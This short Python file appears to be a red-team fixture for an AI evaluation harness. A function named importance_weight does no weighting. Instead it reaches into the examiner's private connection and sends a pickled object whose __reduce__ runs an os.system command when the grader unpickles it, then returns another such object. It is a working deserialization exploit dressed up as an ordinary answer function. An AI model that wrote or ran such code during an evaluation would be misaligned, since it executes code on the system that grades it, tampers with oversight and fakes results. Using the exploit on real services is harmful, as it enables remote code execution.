"""Sends an object that would run a command where it is unpickled."""

import os
import pickle


class Run:
    def __reduce__(self):
        return os.system, ("touch /tmp/pickled-on-the-line",)


def importance_weight(pi, mu):
    from serving.examiner import candidate

    body = pickle.dumps(["answer", 1, Run()])
    candidate.exam._line._connection.sendall(len(body).to_bytes(4, "big") + body)
    return Run()
